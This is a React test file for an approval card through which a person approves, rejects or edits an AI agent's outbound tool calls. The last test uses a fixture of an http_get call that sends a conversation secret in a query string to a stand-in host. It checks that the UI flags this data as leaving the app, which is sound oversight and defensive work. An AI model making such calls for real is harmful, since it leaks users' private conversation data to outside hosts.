import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import type { ApprovalView } from "../../utils/conversation";
import { ApprovalCard } from "../approval-card";

const approval: ApprovalView = {
  approvalId: "a1",
  runId: "r1",
  tool: "http_post",
  args: { url: "http://127.0.0.1:8766/hook", body: { message: "hi" } },
  reason: "http_post acts outside this app, so it needs your approval.",
  status: "pending",
  live: true,
};

describe("ApprovalCard", () => {
  it("shows the tool, its arguments and the reason", () => {
    render(<ApprovalCard approval={approval} onDecide={vi.fn()} />);
    const card = screen.getByRole("region", { name: "Approval needed: http_post" });
    expect(card).toHaveTextContent("http://127.0.0.1:8766/hook");
    expect(card).toHaveTextContent("needs your approval");
  });

  it("approves and rejects, with the optional comment", async () => {
    const onDecide = vi.fn();
    const user = userEvent.setup();
    render(<ApprovalCard approval={approval} onDecide={onDecide} />);
    await user.click(screen.getByRole("button", { name: "Approve" }));
    expect(onDecide).toHaveBeenLastCalledWith({ decision: "approve" });
    await user.type(screen.getByLabelText("Comment (optional)"), "not this one");
    await user.click(screen.getByRole("button", { name: "Reject" }));
    expect(onDecide).toHaveBeenLastCalledWith({ decision: "reject", comment: "not this one" });
  });

  it("edits the arguments, refusing anything but a JSON object", async () => {
    const onDecide = vi.fn();
    const user = userEvent.setup();
    render(<ApprovalCard approval={approval} onDecide={onDecide} />);
    await user.click(screen.getByRole("button", { name: "Edit" }));
    const editor = screen.getByLabelText("Arguments (JSON)");
    await user.clear(editor);
    await user.click(editor);
    await user.paste("[1, 2]");
    await user.click(screen.getByRole("button", { name: "Run with these arguments" }));
    expect(screen.getByRole("alert")).toHaveTextContent("Arguments must be a JSON object");
    await user.clear(editor);
    await user.paste('{"url": "http://127.0.0.1:8766/other"}');
    await user.click(screen.getByRole("button", { name: "Run with these arguments" }));
    expect(onDecide).toHaveBeenCalledOnce();
    expect(onDecide).toHaveBeenCalledWith({ decision: "edit", args: { url: "http://127.0.0.1:8766/other" } });
  });

  it("shows the decision, who made it and their comment, and no buttons once decided", () => {
    render(
      <ApprovalCard
        approval={{
          ...approval,
          status: "rejected",
          live: false,
          comment: "not today",
          decidedBy: "someone-else",
          decidedAt: new Date().toISOString(),
        }}
        onDecide={vi.fn()}
      />,
    );
    expect(screen.getByRole("region", { name: "Rejected: http_post" })).toBeInTheDocument();
    expect(screen.getByTestId("approval-decision")).toHaveTextContent("By an administrator");
    expect(screen.getByTestId("approval-decision")).toHaveTextContent("Comment: not today");
    expect(screen.queryByRole("button", { name: "Approve" })).toBeNull();
  });

  it("a superseded approval says so and has no live buttons", () => {
    render(<ApprovalCard approval={{ ...approval, status: "superseded", live: false }} onDecide={vi.fn()} />);
    expect(screen.getByRole("heading")).toHaveTextContent("Superseded");
    expect(screen.queryByRole("button")).toBeNull();
  });

  it("a pending approval the run no longer waits on has no buttons either", () => {
    render(<ApprovalCard approval={{ ...approval, live: false }} onDecide={vi.fn()} />);
    expect(screen.queryByRole("button", { name: "Approve" })).toBeNull();
  });

  it("disables the buttons while another answer streams", () => {
    render(<ApprovalCard approval={approval} />);
    expect(screen.getByRole("button", { name: "Approve" })).toBeDisabled();
  });

  it("shows the data a tainted run would send out, flagging conversation data", () => {
    render(
      <ApprovalCard
        approval={{
          ...approval,
          tool: "http_get",
          args: { url: "http://canary.test/c?d=4111-secret&lang=en" },
          dataFlow: {
            url: "http://canary.test/c?d=4111-secret&lang=en",
            host: "canary.test",
            carries_conversation_data: true,
            items: [
              { location: "query", name: "d", value: "4111-secret", from_conversation: true },
              { location: "query", name: "lang", value: "en", from_conversation: false },
            ],
          },
        }}
        onDecide={vi.fn()}
      />,
    );
    const flow = screen.getByTestId("approval-data-flow");
    expect(flow).toHaveTextContent("Data leaving the app to canary.test");
    expect(flow).toHaveTextContent("http://canary.test/c?d=4111-secret&lang=en");
    expect(flow).toHaveTextContent("carries data from your conversation");
    const flagged = flow.querySelectorAll("[data-from-conversation=true]");
    expect(flagged).toHaveLength(1);
    expect(flagged[0]).toHaveTextContent("query d4111-secretfrom this conversation");
  });
});
